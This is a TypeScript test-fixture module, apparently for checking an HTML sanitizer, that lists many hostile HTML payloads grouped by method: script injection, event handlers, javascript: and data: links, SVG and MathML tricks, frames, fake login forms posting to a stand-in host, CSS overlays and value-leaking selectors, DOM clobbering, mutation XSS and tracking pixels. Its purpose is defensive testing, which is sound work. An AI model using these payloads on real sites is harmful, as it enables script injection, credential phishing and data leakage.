/** The mark on `window` that a foreign script leaves when it runs. */
export const HIT = 'hostileScriptRan';
const RUN = `window.${HIT}=true`;
/** A host that must not be requested, and to which no link may lead without a click. */
export const OUTSIDE = 'https://buiten.example';

const each = (values: readonly string[], wrap: (value: string) => string): string[] => values.map(wrap);

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script type="module">${RUN}</script>`,
  `<script type="text/javascript" defer>${RUN}</script>`,
  `<script src="${OUTSIDE}/x.js"></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src="//buiten.example/x.js"></script>`,
  `<script async src=${OUTSIDE}/x.js></script>`,
  `<script type="importmap">{"imports":{"react":"${OUTSIDE}/x.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${OUTSIDE}/x"]}]}</script>`,
  `<p><script>${RUN}</script>Tekst</p>`,
  `<ul><li><script>${RUN}</script></li></ul>`,
  `<table><script>${RUN}</script><tr><td>x</td></tr></table>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>alert(1)</script>`,
  `<script>document.body.innerHTML=''</script>`,
];

const eventNames = `
  onload onerror onclick onfocus onblur onmouseover onpointerenter onanimationstart ontransitionend onscroll
  onwheel oncopy onbeforeinput ontoggle onbegin onauxclick onformdata onscrollsnapchange onbeforematch oncontentvisibilityautostatechange
`
  .trim()
  .split(/\s+/);

const events = [
  ...each(eventNames, (name) => `<p ${name}="${RUN}" tabindex="1" autofocus>${name}</p>`),
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}>`,
  `<IMG SRC=x ONERROR="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x oNeRrOr\n=\n"${RUN}">`,
  `<img src="x" srcset="x 1x, y 2x" onerror="${RUN}">`,
  `<image src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<body onpageshow="${RUN}" onhashchange="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>x</option></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<button popovertarget="x" onclick="${RUN}">x</button><p popover id="x" onbeforetoggle="${RUN}">y</p>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x autoplay onerror="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="https://huur.example" onclick="${RUN}">Betalen</a>`,
  `<b style="animation:x" onanimationend="${RUN}">x</b>`,
];

const addresses = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'java\nscript:RUN',
  'java\tscript:RUN',
  'java&#10;script:RUN',
  'java&Tab;script:RUN',
  'javascript&colon;RUN',
  '&#106;&#97;&#118;&#97;script:RUN',
  '&#x6A;avascript&#x3A;RUN',
  'javascript://huur.example/%0aRUN',
  'javascript:"<script>RUN</script>"',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=RUN>',
  'DATA:text/html,x',
  'vbscript:msgbox(1)',
  'livescript:RUN',
  'blob:https://huur.example/0f',
  'file:///etc/passwd',
  'filesystem:https://huur.example/x',
  'view-source:javascript:RUN',
  'ms-msdt:/id PCWDiagnostic',
  'intent://x#Intent;scheme=javascript;end',
  '//buiten.example/x',
  '\\\\buiten.example\\x',
  '/api/v1/task',
  '#beheer',
  '',
].map((address) => address.replaceAll('RUN', RUN).replaceAll('"', '&quot;'));

const links = [
  ...each(addresses, (address) => `<a href="${address}">Klik hier</a>`),
  `<a href='javascript:${RUN}'>x</a>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a xlink:href="javascript:${RUN}">x</a>`,
  `<a href="x" href="javascript:${RUN}">x</a>`,
  `<a href="https://huur.example" ping="${OUTSIDE}/ping" target="_top" rel="opener" download="x.exe">x</a>`,
  `<map name="m"><area href="javascript:${RUN}" shape="default"></map><img usemap="#m" src="x">`,
];

const drawings = [
  `<svg onload="${RUN}"></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><script xlink:href="${OUTSIDE}/x.js"/></svg>`,
  `<svg><a href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="onload" to="${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><image href="${OUTSIDE}/pixel.png" width="1" height="1"/></svg>`,
  `<svg><feImage href="${OUTSIDE}/pixel.png"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><body onload="${RUN}"></foreignObject></svg>`,
  `<svg><style>*{display:none}</style></svg>`,
  `<svg><style>@import '${OUTSIDE}/x.css'</style></svg>`,
  `<svg><title><img src=x onerror="${RUN}"></title></svg>`,
  `<svg><desc><img src=x onerror="${RUN}"></desc></svg>`,
  `<svg style="position:fixed;inset:0" width="9999" height="9999"><rect width="9999" height="9999"/></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<math><mi><script>${RUN}</script></mi></math>`,
];

const frames = [
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="${OUTSIDE}"></iframe>`,
  `<iframe src="/taken"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe onload="${RUN}"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>" type="text/html"></object>`,
  `<object type="image/svg+xml" data="${OUTSIDE}/x.svg"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="${OUTSIDE}/x.swf" allowscriptaccess="always">`,
  `<applet code="x" codebase="${OUTSIDE}"></applet>`,
  `<portal src="${OUTSIDE}"></portal>`,
  `<fencedframe src="${OUTSIDE}"></fencedframe>`,
];

const ofThePage = [
  `<meta http-equiv="refresh" content="0;url=${OUTSIDE}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<META HTTP-EQUIV="Refresh" CONTENT="0; URL=data:text/html,x">`,
  `<meta http-equiv="set-cookie" content="session=theirs">`,
  `<meta name="referrer" content="unsafe-url">`,
  `<base href="${OUTSIDE}/">`,
  `<base target="_top">`,
  `<link rel="stylesheet" href="${OUTSIDE}/x.css">`,
  `<link rel="prefetch" href="${OUTSIDE}/x">`,
  `<link rel="preconnect" href="${OUTSIDE}">`,
  `<link rel="dns-prefetch" href="//buiten.example">`,
  `<link rel="icon" href="${OUTSIDE}/x.ico">`,
  `<link rel="manifest" href="${OUTSIDE}/x.json">`,
  `<html manifest="${OUTSIDE}/x"><head><title>Inloggen</title></head><body>x</body></html>`,
  `<title>Inloggen</title>`,
];

const forms = [
  `<form action="${OUTSIDE}"><input name="password" type="password"><button>Inloggen</button></form>`,
  `<form action="javascript:${RUN}"><input type="submit"></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<button form="x" formaction="${OUTSIDE}">x</button><form id="x"></form>`,
  `<input type="image" src="${OUTSIDE}/pixel.png" onerror="${RUN}">`,
  `<input type="hidden" accesskey="x" onclick="${RUN}">`,
  `<isindex type="image" src="1" onerror="${RUN}">`,
  `<keygen autofocus onfocus="${RUN}">`,
  `<dialog open>Je sessie is verlopen. <form method="dialog"><input name="password"></form></dialog>`,
  `<label for="search">Zoeken</label><output for="x">y</output>`,
  `<textarea>Tekst</textarea>`,
  `<select multiple size="99"><option selected>x</option></select>`,
];

const covering = [
  'position:fixed;inset:0;background:#fff;z-index:2147483647',
  'position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px',
  'position:sticky;top:0;z-index:9999',
  'display:block;width:300vw;height:300vh;margin:-100vh',
  'transform:scale(999)',
  'box-shadow:0 0 0 9999px #fff',
  'outline:9999px solid #fff',
  'font-size:9999px',
  'pointer-events:none;opacity:0',
  'filter:blur(99px);backdrop-filter:blur(99px)',
  `background:url(${OUTSIDE}/pixel.png)`,
  `background:url('javascript:${RUN}')`,
  `background-image:image-set('${OUTSIDE}/pixel.png' 1x)`,
  `list-style-image:url(${OUTSIDE}/pixel.png)`,
  `cursor:url(${OUTSIDE}/x.cur),auto`,
  `content:url(${OUTSIDE}/pixel.png)`,
  `width:expression(${RUN})`,
  `-moz-binding:url(${OUTSIDE}/x.xml#x)`,
  `behavior:url(${OUTSIDE}/x.htc)`,
  `--accent:red;--content-height:0`,
];

const styles = [
  ...each(covering, (style) => `<div style="${style}">Tekst</div>`),
  '<style>*{display:none!important}</style>',
  '<style>body{background:red}main{visibility:hidden}</style>',
  `<style>@import url(${OUTSIDE}/x.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${OUTSIDE}/x.woff)}p{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${OUTSIDE}/a)}</style>`,
  `<p class="dialog overlay" data-theme="dark" slot="x" part="y">Tekst</p>`,
  `<p dir="rtl" hidden contenteditable draggable="true" lang="ar">Tekst</p>`,
  `<font size="99999" color="white" face="x">Tekst</font>`,
  `<center><marquee width="99999" height="99999" scrollamount="99">Tekst</marquee></center>`,
  `<table width="99999" height="99999" background="${OUTSIDE}/pixel.png"><tr><td>Tekst</td></tr></table>`,
];

const clobbering = [
  '<a id="location" href="https://huur.example">x</a>',
  '<form id="forms" name="forms"><input name="attributes"></form>',
  '<form id="x"><input id="nodeName" name="nodeName"><input name="childNodes"></form>',
  '<img name="cookie">',
  '<img name="body"><img name="documentElement">',
  '<form name="createElement"></form>',
  '<a id="config"></a><a id="config" name="api" href="https://huur.example">x</a>',
  '<object name="getElementById"></object>',
  '<p id="root">Tekst</p>',
  '<div id="__proto__" name="constructor">Tekst</div>',
  '<p id="hostileScriptRan">Tekst</p>',
  '<p aria-labelledby="root" aria-live="assertive" role="alert">Tekst</p>',
];

const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><style><img title="</style><img src=x onerror=${RUN}>">`,
  `<svg><p><style><!--</style><img src=x onerror=${RUN}>--></style></p></svg>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<template><template><script>${RUN}</script></template></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<select><template><img src=x onerror="${RUN}"></template></select>`,
  `<select><style></select><img src=x onerror=${RUN}></style></select>`,
  `<table><td><a><table><img src=x onerror="${RUN}"></table></a></td></table>`,
  `<a><a href="javascript:${RUN}">x</a></a>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--!><img src=x onerror="${RUN}">--!>`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml version="1.0"?><?x ><img src=x onerror="${RUN}">?>`,
  `<x-element is="y" onclick="${RUN}">x</x-element>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<p>{{ '<img src=x onerror="${RUN}">' }} \${${RUN}} <%= ${RUN} %></p>`,
];

const broken = [
  `<img src=x onerror="${RUN}"`,
  `<img src="x onerror=${RUN}>`,
  `<<script>${RUN}//<</script>`,
  `</p></div></main></body></html><script>${RUN}</script>`,
  `"><img src=x onerror="${RUN}">`,
  `'><svg onload='${RUN}'>`,
  `<p title='"'><img src=x onerror='${RUN}'>`,
  `<p\u0000 onclick="${RUN}">Tekst</p>`,
  `<img\u000bsrc=x\u000bonerror="${RUN}">`,
  `\u202e<b onclick="${RUN}">Tekst</b>`,
  `<p ${'x '.repeat(500)}onclick="${RUN}">Tekst</p>`,
  `${'<b>'.repeat(600)}<img src=x onerror="${RUN}">`,
  `${'<svg><p>'.repeat(60)}<img src=x onerror="${RUN}">`,
  `&lt;img src=x onerror=&quot;${RUN}&quot;&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `<textarea><img src=x onerror="${RUN}">`,
  `<title><img src=x onerror="${RUN}">`,
  `<script>${RUN}`,
  `<style>*{display:none}`,
  `<plaintext><img src=x onerror="${RUN}">`,
];

const tracking = [
  `<img src="${OUTSIDE}/pixel.png" width="1" height="1">`,
  `<img src="//buiten.example/pixel.png">`,
  `<img srcset="${OUTSIDE}/pixel.png 2x">`,
  `<img loading="lazy" src="${OUTSIDE}/pixel.png" alt="Foto">`,
  `<picture><source srcset="${OUTSIDE}/pixel.webp"><img src="${OUTSIDE}/pixel.png"></picture>`,
  `<video poster="${OUTSIDE}/pixel.png" src="${OUTSIDE}/x.mp4" autoplay></video>`,
  `<audio src="${OUTSIDE}/x.mp3" autoplay></audio>`,
  `<video><track src="${OUTSIDE}/x.vtt" default></video>`,
  `<body background="${OUTSIDE}/pixel.png">`,
  `<td background="${OUTSIDE}/pixel.png">x</td>`,
  `<img src="https://buiten.example:8443/pixel.png?wie=anne">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
];

/** Harmful HTML, grouped by its method. */
export const hostileHtml = {
  scripts,
  events,
  links,
  drawings,
  frames,
  ofThePage,
  forms,
  styles,
  clobbering,
  mutating,
  broken,
  tracking,
} as const satisfies Record<string, readonly string[]>;

/**
 * Closes every element, comment or attribute that a payload may leave open, so that the next payload is parsed as it
 * was written.
 */
const CLOSED = `--></script></style></textarea></title></noscript></xmp></template></select></svg></math>"'>`;

/** Joins several payloads in one text, so that none hides the next. */
export const bundled = (payloads: readonly string[]): string =>
  payloads.map((payload) => `${payload}${CLOSED}`).join('\n');
